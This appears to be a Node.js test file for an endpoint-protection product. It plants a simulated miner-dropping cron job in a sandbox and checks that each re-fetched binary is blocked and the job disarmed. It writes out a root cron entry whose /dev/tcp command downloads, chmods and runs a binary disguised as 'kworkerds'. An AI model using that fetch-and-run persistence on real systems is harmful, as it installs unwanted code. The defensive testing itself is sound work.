import assert from 'node:assert/strict'
import { once } from 'node:events'
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { setTimeout as pause } from 'node:timers/promises'
import { minerWords } from '../../hosts/host-part.ts'
import { rangeImpossible } from './machine.ts'
import { lookalike } from './programs.ts'
import type { Range } from './range.ts'
import { openWatched, whole } from './watch-host.ts'
import { began, beganPath } from './watch-session.ts'

// What is left of an intruder fetches his miner anew each minute, with another hash each time, and starts it. It was there before anybody watched.

const skip = rangeImpossible() ?? (whole ? false : 'waits for minutes of cron: npm run verify watch')
const job = '/etc/cron.d/cache'
const miner = '/var/tmp/.cache/kworkerds'
const port = 8_088
const fetches = `exec 3<>/dev/tcp/127.0.0.1/${port}; mkdir -p /var/tmp/.cache; cat <&3 > ${miner}; chmod 755 ${miner}; ${miner} &`

/** Serves a look-alike with a hash of its own to whoever asks, in the network of the host only. */
async function serveMiner(range: Range, folder: string): Promise<void> {
  const path = join(folder, 'miner')
  writeFileSync(path, lookalike({ leaves: beganPath, seconds: 300 }, minerWords, Date.now() + 600_000))
  const program = `let turn = 0; require('node:net').createServer(socket => { socket.on('error', () => {}); socket.write(require('node:fs').readFileSync(${JSON.stringify(path)})); socket.end(String(turn++)) }).listen(${port}, '127.0.0.1', () => console.log('ready')); setTimeout(process.exit, 600000)`
  const server = range.startBeside([process.execPath, '--input-type=commonjs', '-e', program], { only: 'network' })
  if (server.stdout !== null) await once(server.stdout, 'data')
}

/** A host with that job, and with what may be done about it. */
async function openWithJob(t: TestContext, may: string) {
  const folder = mkdtempSync(join(tmpdir(), 'davylamp-cron-'))
  t.after(() => rmSync(folder, { recursive: true, force: true }))
  const { range, session } = await openWatched({
    mode: 'block',
    config: `prevention: block\nresponse: { may: [${may}] }\n`,
    before: async host => {
      await serveMiner(host, folder)
      writeFileSync(`${host.root}${job}`, `SHELL=/bin/bash\n* * * * * root ${fetches}\n`)
    },
  })
  t.after(() => range.close())
  const armed = () => existsSync(`${range.root}${job}`)
  const nothingRan = () => {
    assert.deepEqual(began(range), [])
    assert.deepEqual(
      range.processes().filter(one => one.exe.startsWith(miner)),
      [],
    )
  }
  return { range, session, armed, nothingRan }
}

const timeout = 420_000

test('what a job fetches anew each minute does not start, however often', { skip, timeout }, async t => {
  const { session, armed, nothingRan } = await openWithJob(t, 'kill-process')
  const prevented = () =>
    new Set(
      session.told.flatMap(({ detection: { subject, responses } }) =>
        subject.path === miner && responses.some(one => one.kind === 'prevented' && one.outcome === 'done')
          ? [subject.sha256]
          : [],
      ),
    )
  for (const end = Date.now() + 240_000; prevented().size < 2 && Date.now() < end; ) await pause(500)
  assert.ok(prevented().size >= 2, session.summary())
  assert.equal(armed(), true)
  nothingRan()
})

test('with the first of it that is noticed the job is disarmed', { skip, timeout }, async t => {
  const { session, armed, nothingRan } = await openWithJob(t, 'kill-process, disarm-autostart')
  for (const end = Date.now() + 150_000; armed() && Date.now() < end; ) await pause(500)
  assert.equal(armed(), false, session.summary())
  nothingRan()
})
